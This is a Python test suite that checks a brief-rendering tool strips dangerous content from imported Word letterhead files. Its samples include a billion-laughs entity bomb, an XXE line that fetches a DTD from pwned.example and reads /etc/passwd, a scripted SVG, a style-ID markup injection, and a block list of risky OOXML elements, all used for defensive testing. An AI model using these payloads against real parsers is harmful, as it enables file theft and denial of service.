"""Attacks by Word documents: a letterhead is somebody else's file, imported or put into a template's folder by hand."""

from __future__ import annotations

import io
import re
import zipfile
from typing import TYPE_CHECKING

import pytest
from lxml import etree

from attacks import SIGN
from brief.letterhead import read_letterhead
from brief.letterhead.codes import ADDRESS
from brief.problem import errors
from brief.render import render
from brief.style import read_style
from letterhead_attacks import FILES, HEADERS, SPACES, STYLES, beside, headed, relationships
from letterheads import OFFICE, A, R, W, picture, raw
from trees import every_node

if TYPE_CHECKING:
    from pathlib import Path

    from brief.problem import Problem

ATTACKS = {**HEADERS, **FILES}
PARTS = re.compile(
    r"\[Content_Types\]\.xml|(_rels|docProps)/[\w.]+|word/(document|styles|theme/theme1|theme|numbering|settings|fontTable"
    r"|footnotes|header[\w-]*|footer[\w-]*)\.xml|word/_rels/[\w-]+\.xml\.rels|word/media/[\w.]+"
)
FORBIDDEN = ("altChunk", "subDoc", "object", "OLEObject", "control", "attachedTemplate", "mailMerge", "frameset",
             "ffData", "dataBinding", "numPicBullet", "binData")  # fmt: skip
SHOWN = ("PAGE", "NUMPAGES", "TOC", "PAGEREF", "REF", "STYLEREF", "HYPERLINK", "NOTEREF")


def by_hand(folder: Path, content: bytes) -> tuple[bytes | None, tuple[Problem, ...]]:
    """The Word document on a base that somebody put into the folder, or what is wrong with it."""
    (folder / "base.docx").write_bytes(content)
    (folder / "style.toml").write_text('[docx]\nbase = "base.docx"\n', encoding="utf-8")
    style, problems = read_style(folder)
    return (render("docx", every_node(), style).content if style else None), problems


def imported(folder: Path, content: bytes) -> tuple[bytes | None, tuple[Problem, ...]]:
    """The base that the import of the same file makes, or what is wrong with it."""
    (folder / "letterhead.docx").write_bytes(content)
    style, _ = read_style()
    assert style is not None
    reading, problems = read_letterhead(folder / "letterhead.docx", "letterhead.docx", style, "policy-brief")
    if reading is None:
        return None, problems
    assert SIGN not in reading.files["style.toml"].decode()
    return reading.files["base.docx"], problems


WAYS = {"by hand": by_hand, "imported": imported}


def dangers(content: bytes) -> list[str]:
    """All that a Word document holds that is fetched, started or led to, but addresses of the web and of mail."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            held = package.read(name)
            found += [f"{name}: a part"] * (not PARTS.fullmatch(name)) + [f"{name}: its sign"] * (SIGN.encode() in held)
            if name.endswith((".xml", ".rels")):
                found += [f"{name}: {danger}" for danger in _dangers(etree.fromstring(held))]
    return found


def _dangers(root: etree._Element) -> list[str]:
    found = [str(element) for element in root.itersiblings(preceding=True)]
    for element in root.iter():
        if not isinstance(element.tag, str):
            found.append(str(element))
            continue
        name = etree.QName(element).localname
        if element.get("TargetMode") and not (
            element.get("Type", "").endswith("/hyperlink") and ADDRESS.fullmatch(element.get("Target", ""))
        ):
            found.append(str(element.get("Target")))
        code = element.text or "" if name == "instrText" else "".join(element.attrib.values()) * (name == "fldSimple")
        if name in FORBIDDEN or (code.strip() and code.split()[0] not in SHOWN):
            found.append(f"{name} {code}")
    return found


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_of_an_attack_is_taken_over_and_the_words_beside_it_are(name: str, way: str, tmp_path: Path) -> None:
    content, problems = WAYS[way](tmp_path, ATTACKS[name])
    assert errors(problems) == ()
    assert content is not None
    assert dangers(content) == []
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        said = b"".join(package.read(part) for part in package.namelist() if "header" in part)
    assert (b"Ministry" in said) == (name in HEADERS)


def test_the_look_sees_what_an_attack_holds() -> None:
    blind = ("styles from elsewhere",)
    assert [name for name, content in ATTACKS.items() if not dangers(content) and name not in blind] == []


def test_links_pictures_and_fields_that_only_show_stay(tmp_path: Path) -> None:
    inner = (
        '<w:p><w:hyperlink r:id="a"><w:r><w:t>web</w:t></w:r></w:hyperlink></w:p><w:p><w:fldSimple w:instr=" DATE "/>'
        '<w:fldSimple w:instr=\' HYPERLINK "https://example.org/a?b=1" \\o "Web" \'/></w:p>'
    )
    content, problems = by_hand(tmp_path, headed(inner, ("a", "hyperlink", "HTTPS://example.org/~a")))
    assert problems == ()
    assert content is not None
    header = zipfile.ZipFile(io.BytesIO(content)).read("word/header1.xml")
    assert b"fldSimple" in header
    assert b" DATE " in header
    assert b"https://example.org/a?b=1" in header
    assert b"HTTPS://example.org/~a" in zipfile.ZipFile(io.BytesIO(content)).read("word/_rels/header1.xml.rels")


@pytest.mark.parametrize("way", WAYS)
def test_styles_theme_and_lists_lead_to_nothing(way: str, tmp_path: Path) -> None:
    """None of the three has relationships in a brief: one that leads to any makes Word call the file damaged."""
    picture_ = '<a:blipFill><a:blip r:embed="lost"/></a:blipFill>'
    theme = f'<a:theme {A} {R} name="x"><a:themeElements><a:fmtScheme><a:bgFillStyleLst>{picture_}</a:bgFillStyleLst>'
    shape = '<w:pict><v:shape><v:imagedata r:id="lost"/></v:shape></w:pict>'
    rows = f'<w:abstractNum w:abstractNumId="7"><w:lvl w:ilvl="0"><w:r>{shape}</w:r></w:lvl></w:abstractNum>'
    rels = relationships(("lost", "image", "https://example.org/x"))
    content, problems = WAYS[way](
        tmp_path,
        raw(
            {
                "styles": STYLES.replace("</w:style>", f"</w:style><w:style {SPACES}><w:r>{shape}</w:r></w:style>"),
                "theme": f"{theme}</a:fmtScheme></a:themeElements></a:theme>",
                "numbering": f"<w:numbering {SPACES}>{rows}</w:numbering>",
            },
            more={f"word/_rels/{part}.xml.rels": rels for part in ("styles", "theme", "numbering")},
        ),
    )
    assert errors(problems) == ()
    assert content is not None
    parts = _parts(content)
    kept = [name for name in parts if re.search(r"word/(styles|theme\d?|theme/theme1|numbering)\.xml$", name)]
    assert len(kept) == 3
    assert [name for name in kept if b'"lost"' in parts[name]] == []


# ---- refused


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE x SYSTEM "https://pwned.example/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
ANYWHERE = ("[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels",
            "word/styles.xml", "word/header1.xml")  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("declared", [LAUGHS, OUTSIDE])
@pytest.mark.parametrize("part", ANYWHERE)
def test_a_document_type_is_told_with_file_and_part(part: str, declared: str, way: str, tmp_path: Path) -> None:
    parts = _parts(headed(""))
    parts[part] = parts[part].replace(b"<?xml version='1.0'?>", b"")
    content, problems = WAYS[way](tmp_path, _zipped({**parts, part: declared.encode() + parts[part]}))
    assert content is None
    (problem,) = problems
    assert re.search(r"(base|letterhead)\.docx cannot be used", problem.message)
    assert part in problem.message


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    "content",
    [
        raw({"styles": f"<w:hdr {W}/>"}),
        raw({"styles": '<styles xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}),
        raw({"styles": STYLES, "header1": "<html><script>pwned</script></html>"}),
        raw({"styles": STYLES, "theme": f"<w:document {W}/>"}),
        beside('<Relationship Id="a" Type="x/header" Target="header.bin"/>', {"word/header.bin": b"no XML"}),
    ],
    ids=["another root", "strict", "a page", "another theme", "another ending"],
)  # fmt: skip
def test_a_part_that_is_not_what_it_is_called_is_told_with_its_name(content: bytes, way: str, tmp_path: Path) -> None:
    found, problems = WAYS[way](tmp_path, content)
    assert found is None
    (problem,) = problems
    assert re.search(r"cannot be used: it is damaged: word/\w+\.(xml|bin) is no ", problem.message)
    assert problem.hint


# ---- names, numbers and pictures


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("kind", ["paragraph", "character", "table"])
def test_the_name_of_a_style_never_becomes_markup(kind: str, way: str, tmp_path: Path) -> None:
    id_ = "&quot;/&gt;&lt;w:altChunk r:id=&quot;x&quot;/&gt;&lt;w:x w:val=&quot;"
    names = ("Normal", "heading 1", "Default Paragraph Font", "Normal Table", "footnote reference", "Hyperlink")
    styles = "".join(
        f'<w:style w:type="{kind}" w:styleId="{id_}{n}"><w:name w:val="{name}"/></w:style>'
        for n, name in enumerate(names)
    )
    content, problems = WAYS[way](tmp_path, raw({"styles": f"<w:styles {SPACES}>{styles}</w:styles>"}))
    assert errors(problems) == ()
    assert content is not None
    assert dangers(content) == []


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("number", ["9" * 400, "9" * 5000, "-" + "9" * 400, "1e9", "٣", ""])
def test_numbers_that_no_word_writes_are_left_out(number: str, way: str, tmp_path: Path) -> None:
    sizes = f'<w:sz w:val="{number}"/><w:spacing w:val="{number}"/>'
    styles = (
        f'<w:styles {W}><w:style w:type="paragraph" w:styleId="a"><w:name w:val="heading 1"/><w:pPr><w:numPr><w:numId '
        f'w:val="{number}"/></w:numPr><w:spacing w:before="{number}" w:line="{number}"/></w:pPr><w:rPr>{sizes}</w:rPr>'
        f'</w:style><w:style w:type="paragraph" w:styleId="b"><w:name w:val="own"/><w:pPr><w:numPr><w:numId '
        f'w:val="{number}"/></w:numPr></w:pPr></w:style></w:styles>'
    )
    lists = (
        f'<w:numbering {W}><w:abstractNum w:abstractNumId="{number}"/><w:num w:numId="{number}"><w:abstractNumId '
        f'w:val="{number}"/></w:num></w:numbering>'
    )
    parts = _parts(raw({"styles": styles, "numbering": lists}))
    parts["word/document.xml"] = parts["word/document.xml"].replace(b'"709"', f'"{number}"'.encode())
    content, problems = WAYS[way](tmp_path, _zipped(parts))
    assert errors(problems) == ()
    assert content is not None


SHOWING = (
    "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData>"
    '<a:blip r:embed="p"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://pwned.example/x"/><script>pwned</script></svg>'


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    "name", ["x.svg", "x.png", "x.jpg", "x.gif", "x.emf", "x.wmf", "x.tiff", "x.bmp", "x.html", "x"]
)
@pytest.mark.parametrize("held", [SVG, b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\npwned", b"pwned", b""])
def test_a_picture_that_is_not_what_it_is_called_is_left_out(name: str, held: bytes, way: str, tmp_path: Path) -> None:
    content, _ = WAYS[way](tmp_path, _with_picture(name, held))
    assert content is not None
    assert dangers(content) == []
    assert "word/media" not in str(zipfile.ZipFile(io.BytesIO(content)).namelist())


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "BMP", "TIFF"])
def test_a_picture_that_is_what_it_is_called_stays(kind: str, way: str, tmp_path: Path) -> None:
    content, _ = WAYS[way](tmp_path, _with_picture(f"x.{kind.lower()}", picture(kind, mode="RGB")))
    assert content is not None
    assert "word/media" in str(zipfile.ZipFile(io.BytesIO(content)).namelist())


METAFILES = {
    "x.emf": b"\x01\x00\x00\x00" + bytes(36) + b" EMF" + bytes(40),
    "placed.wmf": b"\xd7\xcd\xc6\x9a" + bytes(40),
    "memory.wmf": b"\x01\x00\x09\x00" + bytes(40),
    "disk.wmf": b"\x02\x00\x09\x00" + bytes(40),
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", METAFILES)
def test_a_drawing_of_windows_stays(name: str, way: str, tmp_path: Path) -> None:
    content, _ = WAYS[way](tmp_path, _with_picture(name, METAFILES[name]))
    assert content is not None
    assert METAFILES[name] in [held for part, held in _parts(content).items() if part.startswith("word/media/")]


def test_of_a_drawing_only_the_picture_in_pixels_stays(tmp_path: Path) -> None:
    drawing = '<a:blip r:embed="p"><a:extLst><a:ext uri="x"><a:svg r:embed="s"/></a:ext></a:extLst></a:blip>'
    rels = (
        f'<Relationships xmlns="{OFFICE}/package/2006/relationships"><Relationship Id="p" '
        f'Type="{OFFICE}/officeDocument/2006/relationships/image" Target="media/x.png"/><Relationship Id="s" '
        f'Type="{OFFICE}/officeDocument/2006/relationships/image" Target="media/x.svg"/></Relationships>'
    )
    more: dict[str, bytes | str] = {
        "word/media/x.png": picture(),
        "word/media/x.svg": SVG,
        "word/_rels/header1.xml.rels": rels,
    }
    header = SHOWING.replace('<a:blip r:embed="p"/>', drawing)
    content, _ = by_hand(tmp_path, headed(header, more=more))
    assert content is not None
    assert dangers(content) == []
    package = zipfile.ZipFile(io.BytesIO(content))
    assert [name for name in package.namelist() if "media" in name] == ["word/media/head1.png"]
    assert b'r:embed="p"' in package.read("word/header1.xml")


@pytest.mark.parametrize("side", [9_000, 60_000])
def test_a_picture_of_more_pixels_than_any_page_has_is_left_out(side: int, tmp_path: Path) -> None:
    head = picture(size=(300, 120))
    huge = head[:16] + side.to_bytes(4, "big") * 2 + head[24:]
    content, _ = by_hand(tmp_path, _with_picture("x.png", _mended(huge)))
    assert content is not None
    assert "word/media" not in str(zipfile.ZipFile(io.BytesIO(content)).namelist())


def _mended(png: bytes) -> bytes:
    """A PNG with the check sum of its head set right."""
    import zlib

    return png[:29] + zlib.crc32(png[12:29]).to_bytes(4, "big") + png[33:]


def _with_picture(name: str, held: bytes) -> bytes:
    rels = (
        f'<Relationships xmlns="{OFFICE}/package/2006/relationships"><Relationship Id="p" '
        f'Type="{OFFICE}/officeDocument/2006/relationships/image" Target="media/{name}"/></Relationships>'
    )
    return headed(SHOWING, more={f"word/media/{name}": held, "word/_rels/header1.xml.rels": rels})


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def _zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, held in parts.items():
            package.writestr(name, held)
    return out.getvalue()
